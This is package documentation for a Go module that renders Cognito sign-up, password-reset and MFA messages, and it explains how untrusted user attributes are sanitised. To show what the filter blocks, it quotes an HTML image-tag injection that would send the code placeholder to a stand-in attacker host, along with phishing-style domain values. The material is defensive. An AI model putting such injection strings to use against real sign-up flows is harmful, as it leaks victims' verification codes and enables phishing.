// Package message renders the custom-message trigger's branded, localised
// email subject, HTML email body and SMS text. It is built so that no
// user-controlled text can turn the mail into a phishing vehicle or leak a
// code (anyone who signs up with a victim's address chooses the attributes
// of a message we send to the victim), and so that no message it returns
// can fail Cognito's own validation and with it the user's sign-up or
// sign-in.
//
// New loads and checks every template once, at cold start; Render fills one
// in per event; Check is the invariant checker both use, exported for the
// trigger's tests and fuzzing.
//
// # Template layout
//
// The default set is embedded from templates/. A team can replace it entirely
// with Config.TemplatesDir, a directory with the same layout:
//
//	layout.html                      shared HTML skeleton: defines "layout",
//	                                 "code" (the code box) and "button"
//	<locale>/common.html             localised snippets: "greeting",
//	                                 "never-share", "footer"
//	<locale>/<source>.subject.txt    email subject  (text/template)
//	<locale>/<source>.sms.txt        SMS text       (text/template)
//	<locale>/<source>.html           email body     (html/template): defines
//	                                 "body", and "action" (the button label)
//	                                 when the source has an app page
//
// <locale> is a directory name such as en, zh-CN or es-419. <source> is one
// of sign-up, admin-create-user, resend-code, forgot-password,
// update-user-attribute, verify-user-attribute, authentication (the
// CustomMessage_* trigger sources). Every locale must have all 22 files; a
// missing, misspelt or extra file is an error, and so is any file that does
// not parse, does not execute, or renders output that fails the checks below.
// Dotfiles and *.md at the top level are ignored.
//
// Templates see these fields, none of which holds raw user input:
//
//	.AppName .AppURL .SupportEmail   branding from Config (validated)
//	.Lang                            the locale, e.g. zh-CN (for <html lang>)
//	.Name                            sanitised display name, or "" (see below)
//	.Code                            the code placeholder
//	.Username                        the username placeholder (AdminCreateUser only)
//	.Link                            the pool's link placeholder, or ""
//	.ActionURL                       the button's https link, or ""
//	.Subject                         the rendered subject (for <title>)
//
// Links are built in Go, not in templates: AppURL plus /confirm-signup
// (SignUp, ResendCode), /reset-password (ForgotPassword), /verify-email
// (UpdateUserAttribute, VerifyUserAttribute) or /sign-in (AdminCreateUser),
// with ?username= (the event's userName, percent-encoded; sign-up and reset
// pages only, as their APIs need it) and &code=<the code placeholder>.
// Authentication gets no link: an MFA code belongs in the sign-in form that
// asked for it. The invitation's link carries neither the username nor the
// temporary password: Cognito inserts the password unencoded, and a
// password does not belong in a URL. Links go to pages that must not act on
// GET alone, because mail scanners fetch links before the user does.
// .ActionURL contains user-chosen text (the username), so templates use it
// only as an href, never as visible text.
//
// Subject and SMS templates are plain text and are not escaped; that is safe
// only because the data above is already reduced to plain text.
//
// # Locales
//
// The user's locale attribute is matched against the template locales in
// three steps: exactly ("zh-CN"); case-insensitively with '_' read as '-'
// ("zh-cn", "zh_CN"); by primary language ("zh", "zh-Hans-SG", "en-GB" → en;
// a bare-language locale wins over a regional one, otherwise the first in
// sort order). POSIX suffixes (".UTF-8", "@euro") and anything after a list
// separator are ignored. No match — empty, garbage, or a language without
// templates — gives Config.DefaultLocale, or "en" when that is empty. A
// DefaultLocale that matches nothing makes New fail. Note that a
// Traditional-Chinese user (zh-TW) gets zh-CN by the language rule until a
// zh-TW set is added, which we judge better than English.
//
// # Untrusted attributes
//
// User attributes are chosen by whoever calls SignUp or UpdateUserAttributes,
// which for a verification message may be an attacker writing to a victim's
// address. The policy:
//
//   - The four messages to recipients who have not yet proven they own the
//     address or number — SignUp, ResendCode, UpdateUserAttribute,
//     VerifyUserAttribute — contain no user-controlled text at all: .Name is
//     always "" and the greeting is neutral. The only user-chosen value in
//     them is the userName inside the sign-up link's query, percent-encoded,
//     invisible, and on our own host.
//   - AdminCreateUser, ForgotPassword and Authentication greet the user by
//     the first of given_name, name, nickname that survives sanitising.
//     preferred_username is not used: it is a handle, often an address.
//   - Sanitising keeps only letters, combining marks (at most 3 after a
//     base), decimal digits, single ASCII spaces (from any Unicode space,
//     tab or line break) and . ' - · (U+2019 and U+2018 become ', U+2010 and
//     U+2011 become -). Everything else is dropped: markup, quotes, braces
//     (so no copy of {####}, {username} or {##…##} can be smuggled into an
//     <img src> to exfiltrate the code), controls including NUL and CR/LF,
//     bidi overrides and zero-width characters, and the separators of URLs
//     and addresses (: / @ ? # % & =).
//   - If what remains looks like a domain — a '.' directly followed by two
//     or more letters or digits, as in "evil.io", "x.com", "10.0.0.1" — the
//     value is discarded entirely, because mail clients link bare domains.
//     Initials ("J.R.R. Tolkien") pass; "St.John" falls back to the neutral
//     greeting.
//   - The result is cut to 40 runes (never between a letter and its marks),
//     trimmed of separators at either end, and must contain a letter;
//     otherwise the greeting is neutral. Only the first 512 bytes of a value
//     are read, so a 10 KB name costs no more than a short one.
//
// So "Zoë O'Brien-Smith" and "王小明" pass intact, while
// `<img src="https://evil.example/c?x={####}">`, "evil.io/login" and
// "https://evil.io" give the neutral greeting. The name is then escaped by
// html/template like any other value.
//
// # Placeholders
//
// Cognito finds its placeholders ({####}, {username}, {##Click Here##}) by
// plain string search in the final message, and html/template percent-encodes
// a value inside an href ({####} becomes %7b%23%23%23%23%7d), which would
// break the link and, if the code is only in the href, the whole message.
// So templates never see the placeholders. They see sentinels made of
// '_', upper-case letters and digits — characters every html/template and
// text/template context leaves as they are — with a random per-Renderer
// nonce, so no input can forge one, and '_', so no sanitised name can
// contain one. After execution the sentinels are replaced by the event's
// exact CodeParameter, UsernameParameter and LinkParameter, in text and in
// href alike. The placeholders are validated first (brace-delimited, no
// braces, markup characters or controls inside) so that inserting them after
// escaping is safe.
//
// # Checks
//
// Check enforces, on every output: subject 1–140 runes, one line, no
// placeholder; SMS 6–140 runes, one line, containing the code placeholder
// (and the username placeholder for AdminCreateUser); email body 6–19,999
// runes containing the code placeholder (the username placeholder for
// AdminCreateUser, and the link placeholder for a verification message when
// the pool sent one); only characters Cognito's emailBody pattern accepts
// (letters, marks, numbers, punctuation, symbols, ASCII space, and \t \n \r
// in the body only — so no NBSP or ideographic space); and no '{' or '}'
// except inside the placeholders allowed in that field. Lengths are counted
// as Cognito counts them, in characters (runes), with the placeholders as
// written: Cognito's own limit applies before it substitutes the code.
//
// New renders every template twice: with hostile, maximal sample data (a
// 40-rune name, the link placeholder set, attack strings in every attribute)
// and with unusual placeholder values and no attributes, which exposes a
// template that hard-codes "{####}". So a branding long enough to push an SMS
// past 140 runes makes New fail, naming each SMS template it breaks.
//
// # Errors
//
// Render returns an error, never a partial message and never a panic, for an
// unknown source, a missing or unsafe placeholder parameter (ErrPlaceholder),
// or an output Check rejects (ErrInvalidOutput). The trigger should then
// return the event unchanged so that Cognito sends the pool's default
// message. Error texts name templates and rules, never user data.
package message
